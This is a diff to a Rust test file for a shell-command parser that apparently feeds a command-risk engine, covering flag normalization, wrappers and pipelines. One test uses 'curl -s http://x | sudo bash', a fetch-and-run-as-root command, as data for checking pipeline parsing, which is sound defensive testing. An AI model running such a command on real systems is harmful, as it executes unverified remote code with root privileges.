@@ -1,6 +1,12 @@
-//! `shell::parse_commands`: flag normalization, wrappers, nesting and redirections.
+//! `risk::parse` (shell parsing plus option normalization): flags, wrappers,
+//! nesting and redirections.
 
-use engine::shell::{ParseError, RedirectKind, SimpleCommand, parse_commands};
+use engine::risk::parse;
+use engine::shell::{ParseError, RedirectKind, SimpleCommand};
+
+fn parse_commands(script: &str) -> Result<Vec<SimpleCommand>, ParseError> {
+    parse(script).map(|script| script.commands)
+}
 
 fn one(script: &str) -> SimpleCommand {
     let mut commands = match parse_commands(script) {
@@ -70,7 +76,13 @@ fn prefixes_are_seen_through() {
     ] {
         let command = one(script);
         assert_eq!(
-            (command.program.as_str(), command.wrappers.clone()),
+            (
+                command.program.as_str(),
+                command
+                    .wrapper_names()
+                    .map(str::to_owned)
+                    .collect::<Vec<_>>()
+            ),
             ("rm", wrappers.iter().map(|w| (*w).to_owned()).collect()),
             "{script}"
         );
@@ -149,7 +161,7 @@ fn redirections_are_recorded() {
 fn pipelines_record_their_source() {
     let commands = parse_commands("curl -s http://x | sudo bash").unwrap();
     assert_eq!(commands[1].program, "bash");
-    assert_eq!(commands[1].stdin_from.as_deref(), Some("curl"));
+    assert_eq!(commands[1].upstream, vec!["curl".to_owned()]);
 }
 
 #[test]
